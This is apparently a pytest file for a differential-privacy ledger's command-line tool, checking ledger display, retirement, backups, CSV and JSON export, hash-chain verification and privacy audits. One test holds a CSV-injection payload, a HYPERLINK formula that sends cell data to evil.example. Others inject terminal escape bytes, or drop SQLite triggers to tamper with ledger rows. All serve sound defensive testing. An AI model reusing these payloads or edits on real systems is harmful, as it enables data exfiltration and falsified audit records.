"""The commands an auditor types: readable, readable by a program, and one line when refused."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import sqlite3
import subprocess
import sys
from contextlib import closing, redirect_stderr, redirect_stdout

import pytest

from pausefl.cli import main
from pausefl.owner.ledger_identity import make_ledger, note_head
from pausefl.privacy import FixedHorizon, Gaussian, Geometric, Laplace, SecureNoise, SqliteLedger


def run(*arguments, code=0):
    """Call a command in this process; the question on a terminal is asked by a process of its own, below."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err), pytest.raises(SystemExit) as ended:
        main([str(word) for word in arguments])
    assert (ended.value.code or 0) == code, out.getvalue() + err.getvalue()
    return out.getvalue() if code < 2 else err.getvalue()


@pytest.fixture
def path(tmp_path):
    ledger = SqliteLedger.create(tmp_path / "ledger.db", clock=lambda: 12.5)
    mechanism = Laplace(unit="coordinate", width=0.003)
    for i in range(50):
        ledger.reserve(
            "a", f"run/{i}", Geometric(40.0, 0.04), mechanism=mechanism, noise=SecureNoise(), dimension=25818
        )
    ledger.reserve("b", "run/1", FixedHorizon(8.0, 4))
    return ledger.path


def test_show(path):
    a, b = json.loads(run("ledger", "show", path, "--json"))
    assert a["releases"] == 50 and a["spent"] == pytest.approx(34.587, abs=1e-3)
    assert a["left"] == pytest.approx(40.0 - a["spent"]) and a["tight"] == pytest.approx(28.52, abs=5e-3)
    assert (a["bound"], a["bound_delta"], a["method"]) == (a["tight"], 1e-6, "pld")
    assert a["whole_update"] == pytest.approx(25818 * a["spent"], rel=1e-9) and a["whole_delta"] == 0.0
    # 99 % of a geometric budget is gone after log(100) / 0.04 = 115.1 releases; Laplace noise can do 1e-9 and more.
    assert a["releases_until_99_percent"] == 116 - 50
    assert a["ended_by"] == "least epsilon" and a["mechanisms"][0].endswith("noise: secure")
    schedule = Geometric(40.0, 0.04)
    assert schedule.epsilon(50 + a["releases_left"]) >= 1e-9 > schedule.epsilon(51 + a["releases_left"])
    assert b["releases_left"] == 3 and b["left"] == pytest.approx(6.0) and b["tight"] is None
    assert (b["ended_by"], b["unstated"], b["unit"], b["method"]) == ("schedule", 1, "unstated", "sum")
    text = run("ledger", "show", path)
    assert "spent 34.5866 of 40" in text and "66 until 99 %" in text and "exhaustion: 3" in text
    assert "delta spent 0 of 0.001" in text and "at delta 1e-06, by pld" in text and "delta is unknown" in text


def test_show_says_every_delta(tmp_path):
    """Five Gaussian releases of delta 1e-4: their sum is no bound at 1e-6, and five more exhaust delta."""
    ledger = SqliteLedger.create(tmp_path / "l.db")
    for i in range(5):
        ledger.reserve("a", f"{i}", FixedHorizon(10.0, 100), mechanism=Gaussian(l2=1.0, delta=1e-4))
    (a,) = json.loads(run("ledger", "show", ledger.path, "--json"))
    assert a["spent_delta"] == pytest.approx(5e-4) and (a["method"], a["bound_delta"]) == ("pld", 1e-6)
    assert a["bound"] == a["tight"] and a["whole_delta"] == a["spent_delta"]
    assert (a["releases_left"], a["ended_by"]) == (5, "delta")
    text = run("ledger", "show", ledger.path)
    assert "delta spent 0.0005 of 0.001" in text and "whole update: 0.5 at delta 0.0005" in text


def test_show_multiplies_each_release_by_its_own_dimension(tmp_path):
    ledger, schedule = SqliteLedger.create(tmp_path / "l.db"), FixedHorizon(8.0, 4)
    laplace = Laplace(unit="coordinate", width=1.0)
    for i, dimension in enumerate([10, 1000, 7]):
        ledger.reserve("a", f"{i}", schedule, mechanism=laplace, dimension=dimension)
        ledger.reserve("b", f"{i}", schedule, mechanism=laplace, dimension=dimension if i else None)
    a, b = json.loads(run("ledger", "show", ledger.path, "--json"))
    assert a["whole_update"] == pytest.approx(2.0 * 1017) and b["whole_update"] is None
    text = run("ledger", "show", ledger.path)
    assert "whole update: 2034 at delta 0" in text and "whole update: unknown, because a release states no" in text


def test_an_option_that_is_gone_says_so(path):
    error = run("ledger", "show", path, "--dimension", 25818, code=2)
    assert error == (
        "pausefl: --dimension is no longer an option; leave it out, because every row of the ledger states its own "
        "dimension\n"
    )
    error = run("ledger", "restore", path, "--head", "0" * 64, code=2)
    assert error.startswith("pausefl: --head is no longer an option; pass --releases N instead, ")
    assert error.count("\n") == 1


AFTER = "Make a new backup now, and destroy the older ones, because they do not contain this row.\n"


def test_retire(path):
    assert "--yes" in run("ledger", "retire", path, "--subject", "a", code=2)
    assert "2 subjects ('a', 'b'); pass one" in run("ledger", "retire", path, "--yes", code=2)
    assert "only 'a', 'b'" in run("ledger", "retire", path, "--yes", "--subject", "c", code=2)
    assert SqliteLedger(path).head.rows == 51
    out = run("ledger", "retire", path, "--yes", "--subject", "b")
    assert out == f"b is retired: 6 of 8 were left, and they are spent now for ever\n{AFTER}"
    assert "retired at" in run("ledger", "retire", path, "--yes", "--subject", "b", code=2)
    _, b = json.loads(run("ledger", "show", path, "--json"))
    assert (b["spent"], b["left"], b["releases"], b["releases_left"]) == (8.0, 0.0, 1, 0)
    assert (
        (b["ended_by"], b["unstated"]) == ("retirement", 1)
        and b["bound"] == pytest.approx(2.0)
        and b["retired"].endswith("Z")
    )
    assert f"retired at {b['retired']}: the rest was spent, for ever" in run("ledger", "show", path)
    assert json.loads(run("ledger", "export", path))[-1]["release"] == "retired"


def test_retire_before_the_first_release(tmp_path):
    """A lost ledger counts as spent: whoever makes a new one for the same data retires it at once."""
    path = SqliteLedger.create(tmp_path / "l.db").path
    assert "0 subjects; pass one with --subject" in run("ledger", "retire", path, "--yes", code=2)
    told = run("ledger", "retire", path, "--yes", "--subject", "never")
    assert told == f"never is retired: it made no release, and it never will\n{AFTER}"
    (found,) = json.loads(run("ledger", "show", path, "--json"))
    assert (found["releases"], found["spent"], found["bound"], found["schedule"]) == (0, 0.0, 0.0, "retired")
    assert f"never: retired at {found['retired']}; it made no release, and it never will" in run("ledger", "show", path)


@pytest.mark.parametrize(("answer", "rows"), [("y", 53), ("n", 52), ("", 52)])
def test_retire_asks_on_a_terminal(path, answer, rows):
    SqliteLedger(path).reserve("b", "run/2", FixedHorizon(8.0, 4))
    here, there = pty.openpty()
    command = [sys.executable, "-m", "pausefl", "ledger", "retire", str(path), "--subject", "b"]
    with subprocess.Popen(command, stdin=there, stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as child:
        os.write(here, f"{answer}\n".encode())
        out = child.communicate(timeout=90)[0].decode()
    os.close(here)
    os.close(there)
    assert "Retire 'b' for ever?" in out and child.returncode == (0 if rows == 53 else 1)
    assert ("nothing was changed" in out) == (rows == 52)
    assert SqliteLedger(path).head.rows == rows


def test_backup(path):
    copy = path.parent / "copy.db"
    head = json.loads(run("ledger", "verify", path, "--json"))
    assert run("ledger", "backup", path, copy) == f"wrote {copy}: 51 rows; head {head['head']}\n"
    error = run("ledger", "backup", path, copy, code=2)
    assert f"'{copy}' exists, and pausefl overwrites nothing; use another file" in error
    error = run("ledger", "backup", path, path.parent / "none" / "copy.db", code=2)
    assert f"there is no folder '{path.parent / 'none'}'; make it first" in error
    assert f"such as {path.parent / 'ledger.db'}" in run("ledger", "show", path.parent, code=2)
    assert "; it contains the head that you gave; " in run("ledger", "verify", path, "--head", head["head"])
    assert json.loads(run("ledger", "backup", path, path.parent / "more.db", "--json")).items() <= head.items()
    for command in ("show", "export"):
        assert run("ledger", command, copy, "--json") == run("ledger", command, path, "--json")
    assert json.loads(run("ledger", "verify", copy, "--json")) == head
    assert "is a backup" in run("ledger", "retire", copy, "--subject", "a", "--yes", code=2)


@pytest.mark.parametrize(
    ("arguments", "names"),
    [
        (["ledger", "show", "LEDGER", "--delta", 0], "delta"),
        (["ledger", "show", "LEDGER", "--delta", "nan"], "delta"),
        (["audit", "laplace", "--epsilon", 1, "--seed", -1], "seed"),
        (["audit", "laplace", "--epsilon", 1, "--confidence", 2], "confidence"),
        (["audit", "laplace", "--epsilon", 1, "--runs", 5], "runs"),
        (["audit", "privunit", "--epsilon", 1, "--delta", 0.1], "delta"),
        (
            ["audit", "laplas", "--epsilon", 1],
            "laplace, laplace-coordinate, laplace-update, gaussian, gaussian-zcdp, gaussian-record, privunit",
        ),
        (["audit", "gaussian", "--epsilon", 1, "--delta", 0], "delta"),
    ],
)
def test_bad_values_are_one_line(path, arguments, names):
    error = run(*(path if word == "LEDGER" else word for word in arguments), code=2)
    assert names in error and error.count("\n") == 1


def test_export(path):
    rows = json.loads(run("ledger", "export", path))
    table = list(csv.DictReader(io.StringIO(run("ledger", "export", path, "--format", "csv"))))
    assert len(rows) == len(table) == 51
    assert [row["play"] for row in rows[:50]] == [int(row["play"]) for row in table[:50]] == list(range(1, 51))
    assert rows[0]["time"] == table[0]["time"] == "1970-01-01T00:00:12.500Z"
    assert (rows[0]["unit"], rows[0]["dimension"]) == (table[0]["unit"], int(table[0]["dimension"]))
    assert (rows[0]["unit"], rows[0]["dimension"]) == ("coordinate", 25818)
    assert float(table[7]["epsilon"]) == rows[7]["epsilon"]
    assert "format" in run("ledger", "export", path, "--format", "xml", code=2)


def test_what_others_wrote_into_a_ledger_is_shown_and_not_obeyed(path):
    class Odd(SecureNoise):
        name = "secure\r\x9b31m\nspent 0 of 40"

    SqliteLedger(path).reserve(
        "c", "run/1", FixedHorizon(8.0, 4), mechanism=Laplace(unit="update", l1=1.0), noise=Odd()
    )
    for command in (["show"], ["export", "--format", "csv"]):
        text = run("ledger", command[0], path, *command[1:])
        assert "secure  31m spent 0 of 40" in text and not {"\r", "\x9b"} & set(text)


@pytest.mark.parametrize("begun", ["=", "+", "-", "@", " =", "\uff1d"])
def test_no_cell_of_an_export_is_a_formula(tmp_path, begun):
    """A spreadsheet computes such a cell; with an apostrophe in front it shows the text."""
    odd = f'{begun}HYPERLINK("http://evil.example/?"&D2)'
    ledger = SqliteLedger.create(tmp_path / "l.db")
    ledger.reserve(odd, "-1/1/A1", FixedHorizon(8.0, 4), mechanism=Laplace(unit="update", l1=1.0))
    [row] = csv.DictReader(io.StringIO(run("ledger", "export", tmp_path / "l.db", "--format", "csv")))
    assert (row["subject"], row["release"]) == (f"'{odd}", "'-1/1/A1")
    assert float(row["epsilon"]) > 0.0, "numbers stay numbers"
    [row] = json.loads(run("ledger", "export", tmp_path / "l.db"))
    assert (row["subject"], row["release"]) == (odd, "-1/1/A1")


def test_verify(path):
    head = json.loads(run("ledger", "verify", path, "--json"))
    assert head["rows"] == 51
    assert head["head"] in run("ledger", "verify", path, "--head", head["head"])
    assert head["head"] in run("ledger", "verify", path, "--head", head["head"].upper())
    assert "older copy" in run("ledger", "verify", path, "--head", "f" * 64, code=2)
    for mistyped in ("abc", head["head"][1:], head["head"] + "0", "g" * 64, ""):
        assert "must be 64 hexadecimal digits; copy it whole" in run(
            "ledger", "verify", path, "--head", mistyped, code=2
        )
    with closing(sqlite3.connect(path)) as connection:
        (again,) = connection.execute("SELECT sql FROM sqlite_master WHERE name = 'no_update'").fetchone()
        edit = "UPDATE charges SET epsilon = 0.001 WHERE seq = 20"
        connection.executescript(f"DROP TRIGGER no_update; {edit}; {again}")
    error = run("ledger", "verify", path, code=2)
    assert "row 20" in error and error.count("\n") == 1
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(f"DROP TRIGGER no_update; UPDATE charges SET unit = x'00ff'; {again}")
    error = run("ledger", "verify", path, code=2)
    assert "cannot be trusted" in error and error.count("\n") == 1
    assert "no such file" in run("ledger", "verify", path.parent / "none.db", code=2)
    assert not (path.parent / "none.db").exists()


def test_verify_finds_cut_rows_by_the_head_beside_the_replies(tmp_path):
    """Rows cut at the end, and the head in the file moved: the chain alone is in order."""
    ledger = make_ledger(tmp_path / "ledger.db")
    assert json.loads(run("ledger", "verify", ledger.path, "--json"))["noted"] == 0
    for i in range(5):
        note_head(ledger)
        ledger.reserve("a", f"run/{i}", Geometric(40.0, 0.04))
    assert json.loads(run("ledger", "verify", ledger.path, "--json"))["noted"] == 4  # killed before it was noted
    note_head(ledger)
    assert "5 rows, all in order; row 5 is noted beside its replies" in run("ledger", "verify", ledger.path)
    with closing(sqlite3.connect(ledger.path)) as connection:
        (again,) = connection.execute("SELECT sql FROM sqlite_master WHERE name = 'no_delete'").fetchone()
        connection.executescript(
            "DROP TRIGGER no_delete; DELETE FROM charges WHERE seq > 3;"
            f"UPDATE head SET rows = 3, hash = (SELECT hash FROM charges WHERE seq = 3); {again}"
        )
    assert SqliteLedger(ledger.path).verify().rows == 3
    error = run("ledger", "verify", ledger.path, code=2)
    assert "misses a release" in error and error.count("\n") == 1


def test_a_retirement_is_noted_beside_the_replies(tmp_path):
    """Otherwise a backup from before would pass for one that has forgotten nothing."""
    ledger = make_ledger(tmp_path / "ledger.db")
    run("ledger", "retire", ledger.path, "--subject", "a", "--yes")
    assert json.loads(run("ledger", "verify", ledger.path, "--json"))["noted"] == 1


def test_audit():
    secure, simulated = json.loads(
        run("audit", "laplace-coordinate", "--epsilon", 1.5, "--runs", 1000, "--confidence", 0.999999, "--json")
    )
    assert secure["private"] and not simulated["private"]
    assert all(one["passed"] and one["claimed"] == 1.5 for one in (secure, simulated))
    text = run("audit", "privunit", "--epsilon", 4, "--runs", 1000, "--source", "simulated")
    assert "not private" in text and "not refuted" in text
    few = ["--runs", 1000, "--source", "simulated"]
    assert "not refuted" in run("audit", "privunit", "--epsilon", 1, "--delta", 0, *few)
    assert "epsilon" in run("audit", "privunit", "--epsilon", "nan", "--source", "simulated", code=2)


def test_audit_says_when_it_cannot_tell():
    """500 runs cannot refute 8, whatever the mechanism does; that is no success, and no failure either."""
    few = ["audit", "laplace", "--epsilon", 8, "--runs", 500, "--source", "simulated"]
    text = run(*few)
    assert "inconclusive: at most 5.3" in text and "raise --runs" in text
    (one,) = json.loads(run(*few, "--json"))
    assert one["passed"] and one["verdict"].startswith("inconclusive") and one["attainable"] < 8


def test_audit_finds_the_low_bits_of_simulated_noise():
    words = ["audit", "laplace", "--epsilon", 1.5, "--runs", 10_000, "--source", "simulated"]
    assert "lowest set bit" in run(*words, "--low-bits", code=1)
    assert "not refuted" in run(*words)


def test_a_ledger_without_releases_says_so_and_exports_its_columns(tmp_path):
    path = SqliteLedger.create(tmp_path / "new.db").path
    assert run("ledger", "show", path) == "this ledger has no release yet, so nothing has leaked\n"
    assert json.loads(run("ledger", "show", path, "--json")) == []
    assert run("ledger", "export", path, "--format", "csv").startswith("subject,release,play,epsilon,")
